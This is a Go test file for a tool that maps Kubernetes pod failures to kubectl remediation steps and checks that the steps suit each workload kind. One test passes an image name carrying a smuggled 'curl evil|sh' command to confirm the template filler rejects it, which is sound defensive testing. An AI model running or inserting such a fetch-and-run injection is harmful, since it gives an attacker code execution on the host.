package classify

import (
	"slices"
	"strings"
	"testing"
)

func TestStepsFitTheKind(t *testing.T) {
	catalogue := mustCatalogue(t)
	for _, page := range catalogue.Pages() {
		for _, kind := range []string{"Deployment", "StatefulSet", "DaemonSet", "Job", "CronJob", "Pod", "Node", "Rollout"} {
			f := &Failure{Kind: "Pod", Namespace: "apps", Name: "web-1", Container: "app", WorkloadKind: kind, Workload: "web", Image: "r.example/web:1"}
			steps := page.Steps(f)
			if len(steps) == 0 {
				t.Errorf("%s for a %s: no step is left", page.Cause, kind)
			}
			all := strings.Join(steps, "\n")
			for _, no := range unfit(kind) {
				if strings.Contains(all, no) {
					t.Errorf("%s for a %s: says %q:\n%s", page.Cause, kind, no, all)
				}
			}
		}
	}
}

func unfit(kind string) []string {
	switch kind {
	case "Pod":
		return []string{"rollout undo pod/", "rollout restart pod/", `"template"`, "/spec/template/", "scale pod/", "set resources pod/", "edit pod/", `"strategy"`}
	case "Job":
		return []string{"rollout undo job/", `'{"spec":{"template"`, "/spec/template/", "set image job/", "set resources job/", "edit job/"}
	case "CronJob":
		return []string{"rollout undo cronjob/", `'{"spec":{"template"`, `"/spec/template/`, `"strategy"`}
	case "Node": // a static pod
		return []string{"node/web", "delete pod web-1", `"template"`, "/spec/template/"}
	case "Rollout": // any kind that is not Kubernetes' own
		return []string{"set image", "set resources rollout", "set env", `"template"`, "/spec/template/", "rollout undo"}
	case "DaemonSet":
		return []string{"cordon <node> && kubectl", "cordon <node>`, then `kubectl -n apps delete pod", "cordon <node>`, `kubectl -n apps delete pod", `"strategy"`}
	case "StatefulSet":
		return []string{`"strategy"`}
	}
	return nil
}

func TestStepsForPodsThatAreNotReplaced(t *testing.T) {
	catalogue := mustCatalogue(t)
	for _, kind := range []string{"StatefulSet", "ReplicaSet"} {
		for _, page := range catalogue.Pages() {
			if page.Family == FamilyCreate || page.Family == FamilyRollout {
				continue // there is no pod
			}
			f := &Failure{Kind: "Pod", Namespace: "apps", Name: "web-1", Container: "app", WorkloadKind: kind, Workload: "web", Image: "r.example/web:1"}
			all := strings.Join(page.Steps(f), "\n")
			if strings.Contains(all, strings.ToLower(kind)+"/web") && !strings.Contains(all, "delete pod web-1") {
				t.Errorf("%s: the broken pod of a %s stays as it is after\n%s", page.Cause, kind, all)
			}
		}
	}
	f := &Failure{Kind: "Pod", Namespace: "apps", Name: "web-1", WorkloadKind: "Deployment", Workload: "web"}
	if all := strings.Join(catalogue.Page(ImageTagNotFound).Steps(f), "\n"); strings.Contains(all, "delete pod") {
		t.Errorf("a Deployment replaces its pods by itself:\n%s", all)
	}
}

func TestStepsForInitContainer(t *testing.T) {
	page := &Page{Fix: []string{"Patch: `kubectl patch <workload_kind>/<workload> -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"<container>\",\"command\":[\"x\"]}]}}}}'`"}}
	got := page.Steps(&Failure{Kind: "Pod", Container: "setup", Init: true, WorkloadKind: "CronJob", Workload: "nightly"})
	want := []string{"Patch: `kubectl patch cronjob/nightly -p '{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"initContainers\":[{\"name\":\"setup\",\"command\":[\"x\"]}]}}}}}}'`"}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestStepsForKindsThatKubectlDoesNotKnow(t *testing.T) {
	page := mustCatalogue(t).Page(ImageTagNotFound)
	first := func(kind, workload string) string {
		return page.Steps(&Failure{Kind: "Pod", Namespace: "kube-system", Name: "etcd-cp-1", Container: "etcd", WorkloadKind: kind, Workload: workload})[0]
	}
	if got, want := first("Node", "cp-1"), "Name a tag that exists: `sudoedit /etc/kubernetes/manifests/FILE.yaml` on node cp-1"; got != want {
		t.Errorf("a static pod: got %q, want %q", got, want)
	}
	if got, want := first("Rollout", "web"), "Name a tag that exists: `kubectl -n kube-system edit rollout/web`"; got != want {
		t.Errorf("a custom kind: got %q, want %q", got, want)
	}
	steps := page.Steps(&Failure{Kind: "Pod", Namespace: "kube-system", Name: "etcd-cp-1", WorkloadKind: "Node", Workload: "cp-1"})
	if last := steps[len(steps)-1]; !strings.Contains(last, "the kubelet of node cp-1 reads static pods") {
		t.Errorf("the last step is %q, want where the file is", last)
	}
}

func TestFillLeavesWhatIsNoName(t *testing.T) {
	got := Fill("docker push <image> in <namespace>", &Failure{Namespace: "apps", Image: "x;curl evil|sh"})
	if want := "docker push <image> in apps"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestQuantityIsBounded(t *testing.T) {
	q, _, ok := ParseQuota("exceeded quota: q, requested: cpu=1e-999999999, used: cpu=1, limited: cpu=1")
	if !ok || len(q.Resources) != 1 || q.Resources[0].Requested != nil {
		t.Errorf("got %+v, %v", q, ok)
	}
}
